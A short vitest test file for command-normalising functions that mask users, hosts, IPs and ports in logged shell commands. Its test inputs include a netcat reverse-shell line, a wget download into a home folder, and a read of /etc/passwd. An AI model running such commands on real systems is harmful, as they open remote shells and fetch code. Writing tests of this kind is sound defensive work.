import { expect, it } from 'vitest';
import { maskCommand, plainPrograms } from './command.ts';

it.each([
  ['/usr/bin/su - alice', '/bin/su - alice'],
  ['exe=/usr/sbin/sshd', 'exe=/sbin/sshd'],
  ['/usr/lib/systemd/systemd', '/lib/systemd/systemd'],
  ['/usr/share/php', '/usr/share/php'],
  ['python3.11 x.py', 'python x.py'],
  ['systemctl reload php8.2-fpm', 'systemctl reload php-fpm'],
  ['/bin/su', '/bin/su']
])('%s is %s', (text, plain) => {
  expect(plainPrograms(text)).toBe(plain);
});

it.each([
  ['/usr/bin/su - alice', '/bin/su - <user>'],
  ['su', 'su'],
  ['su -l', 'su -l'],
  ['sudo -u www-data /usr/bin/id', 'sudo -u www-data /bin/id'],
  ['passwd alice', 'passwd <user>'],
  ['cat /etc/passwd', 'cat /etc/passwd'],
  ['wget http://gate.corp.example/x -O /home/alice/x', 'wget http://<host>/x -o /home/<user>/x'],
  ['nc 192.0.2.7 4444 -e /bin/sh', 'nc <ip> <n> -e /bin/sh']
])('the command %s is %s', (command, masked) => {
  expect(maskCommand(command)).toBe(masked);
});
